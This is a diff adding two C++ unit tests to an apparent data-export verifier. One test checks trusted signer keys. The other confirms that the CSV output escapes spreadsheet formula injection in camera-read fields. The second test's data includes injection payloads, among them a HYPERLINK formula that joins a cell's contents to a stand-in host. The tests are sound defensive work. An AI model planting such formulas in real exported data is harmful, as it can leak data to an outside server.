@@ -191,6 +191,46 @@ BOOST_AUTO_TEST_CASE(without_a_trusted_key_the_package_key_is_used_with_a_warnin
   BOOST_TEST(!v.warnings.empty());
 }
 
+BOOST_AUTO_TEST_CASE(only_a_trusted_key_verifies_the_signer_and_a_list_may_hold_several) {
+  auto w = Write();
+  auto bare = VerifyPackage(w.path, std::vector<std::string>{}).Value();
+  BOOST_TEST(bare.valid, bare.firstProblem);
+  BOOST_TEST(bare.keyFromPackage);
+  BOOST_TEST(!bare.SignerVerified());  // intact, signer not verified
+  fs::create_directories(temp.Path() / "other");
+  auto other = audit::AuditLog::Open(temp.Path() / "other/audit.db", {"other-storage", "ws-02", "0.1.0"}, clock).Value();
+  const std::string otherKey = other->VerifierKey().Value();
+  auto both = VerifyPackage(w.path, std::vector<std::string>{otherKey, content.verifierKey}).Value();
+  BOOST_TEST(both.SignerVerified(), both.firstProblem);
+  auto wrong = VerifyPackage(w.path, std::vector<std::string>{otherKey}).Value();
+  BOOST_TEST(!wrong.valid);
+  BOOST_TEST(wrong.firstProblem.find("not a trusted key") != std::string::npos, wrong.firstProblem);
+  // The package's own key file, published by the agency, is a trusted-keys file as it is.
+  auto parsed = ParseTrustedKeys(ReadFile(w.path / std::string(kKeyFile)).Value());
+  BOOST_REQUIRE(parsed.Ok());
+  BOOST_TEST((*parsed == std::vector<std::string>{content.verifierKey}));
+  BOOST_TEST((ParseTrustedKeys("# comment\n\n" + otherKey + "\n" + content.verifierKey + "\n").Value().size() == 2u));
+  BOOST_TEST((ParseTrustedKeys("not a key at all\n").Err().code == ErrorCode::InvalidArgument));
+  BOOST_TEST((ParseTrustedKeys("# nothing\n").Err().code == ErrorCode::InvalidArgument));
+}
+
+BOOST_AUTO_TEST_CASE(camera_text_that_a_spreadsheet_would_run_gets_an_apostrophe_in_reads_csv) {
+  content.reads[0].plateReported = "=HYPERLINK(\"http://x.test/\"&A1)";
+  content.reads[0].vehicle.make = {{"@sum(a1)", 60}};
+  content.reads[0].vehicle.model = {{"+cmd", 60}};
+  content.reads[0].vehicle.body = {{"-2+3", 60}};
+  content.reads[1].vehicle.color = {{"\tgrey", 60}};
+  auto w = Write();
+  const std::string csv = ReadFile(w.path / "data/reads.csv").Value();
+  BOOST_TEST(csv.find(",\"'=HYPERLINK(\"\"http://x.test/\"\"&A1)\",") != std::string::npos, csv);
+  for (const char* cell : {",'@sum(a1),", ",'+cmd,", ",'-2+3,", ",'\tgrey,"})
+    BOOST_TEST(csv.find(cell) != std::string::npos, cell);
+  BOOST_TEST(csv.find(",-122.34,") != std::string::npos, csv);  // a negative longitude stays a number
+  const std::string json = ReadFile(w.path / "data/reads.json").Value();
+  BOOST_TEST(json.find("\"=HYPERLINK(") != std::string::npos);  // JSON keeps the value as stored
+  BOOST_TEST(Verify(w.path).valid);
+}
+
 BOOST_AUTO_TEST_CASE(tampering_is_detected_and_named) {
   struct Tamper {
     const char* name;
